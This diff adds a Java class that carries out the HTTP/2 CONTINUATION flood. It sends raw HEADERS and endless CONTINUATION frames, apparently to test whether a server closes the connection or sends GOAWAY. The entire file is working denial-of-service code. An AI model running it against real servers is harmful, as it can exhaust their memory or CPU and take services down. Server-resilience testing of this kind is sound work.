@@ -1,0 +1,106 @@
+package io.fedmesh.sidecar;
+
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.io.InputStream;
+import java.io.OutputStream;
+import java.net.Socket;
+import java.nio.charset.StandardCharsets;
+import java.util.concurrent.CompletableFuture;
+import java.util.concurrent.TimeUnit;
+import java.util.concurrent.atomic.AtomicLong;
+
+/**
+ * The HTTP/2 CONTINUATION flood (2024, many servers): a HEADERS frame without END_HEADERS, then
+ * CONTINUATION frames without end, so a server that buffers or decodes the header block as it grows
+ * runs out of memory or CPU. Written as raw frames on an HTTP/2 connection (h2c, or TLS with ALPN
+ * h2): the writer goes on until the server closes the connection or {@link #CAP} bytes are sent.
+ */
+public final class ContinuationFlood {
+  /** Bytes of CONTINUATION frames the flood sends at most; a bounded server stops far earlier. */
+  public static final long CAP = 64L << 20;
+
+  /** How the flood ended. */
+  public record Result(boolean closedByServer, boolean goAway, long bytesWritten) {}
+
+  private ContinuationFlood() {}
+
+  /**
+   * Floods {@code socket} (connected, handshake done) with CONTINUATION frames of {@code
+   * fragmentSize} bytes each (0: empty frames) and reports whether the server closed it.
+   */
+  public static Result run(Socket socket, int fragmentSize) throws Exception {
+    socket.setSoTimeout(20_000);
+    OutputStream out = socket.getOutputStream();
+    InputStream in = socket.getInputStream();
+    CompletableFuture<byte[]> received =
+        CompletableFuture.supplyAsync(
+            () -> {
+              ByteArrayOutputStream all = new ByteArrayOutputStream();
+              byte[] buf = new byte[8192];
+              try {
+                int n;
+                while ((n = in.read(buf)) != -1) {
+                  all.write(buf, 0, n);
+                }
+              } catch (IOException e) {
+                // reset by the server: as closed
+              }
+              return all.toByteArray();
+            });
+    AtomicLong written = new AtomicLong();
+    Thread writer =
+        new Thread(
+            () -> {
+              try {
+                out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
+                out.write(frame(4, 0, 0, new byte[0])); // SETTINGS
+                // HEADERS on stream 1, END_STREAM, no END_HEADERS: GET http / (indexed HPACK)
+                out.write(frame(1, 0x1, 1, new byte[] {(byte) 0x82, (byte) 0x86, (byte) 0x84}));
+                byte[] continuation = frame(9, 0, 1, new byte[fragmentSize]);
+                while (written.get() < CAP) {
+                  out.write(continuation);
+                  written.addAndGet(continuation.length);
+                }
+              } catch (IOException e) {
+                // the server closed the connection
+              }
+            },
+            "continuation-flood");
+    writer.setDaemon(true);
+    writer.start();
+    byte[] got = received.get(30, TimeUnit.SECONDS);
+    long atClose = written.get();
+    socket.close();
+    writer.join(10_000);
+    return new Result(atClose < CAP, hasGoAway(got), atClose);
+  }
+
+  private static byte[] frame(int type, int flags, int stream, byte[] payload) {
+    byte[] f = new byte[9 + payload.length];
+    f[0] = (byte) (payload.length >>> 16);
+    f[1] = (byte) (payload.length >>> 8);
+    f[2] = (byte) payload.length;
+    f[3] = (byte) type;
+    f[4] = (byte) flags;
+    f[5] = (byte) (stream >>> 24);
+    f[6] = (byte) (stream >>> 16);
+    f[7] = (byte) (stream >>> 8);
+    f[8] = (byte) stream;
+    System.arraycopy(payload, 0, f, 9, payload.length);
+    return f;
+  }
+
+  /** Whether the server's bytes hold a GOAWAY frame (walking frame by frame). */
+  private static boolean hasGoAway(byte[] b) {
+    int i = 0;
+    while (i + 9 <= b.length) {
+      int len = ((b[i] & 0xff) << 16) | ((b[i + 1] & 0xff) << 8) | (b[i + 2] & 0xff);
+      if (b[i + 3] == 7) {
+        return true;
+      }
+      i += 9 + len;
+    }
+    return false;
+  }
+}
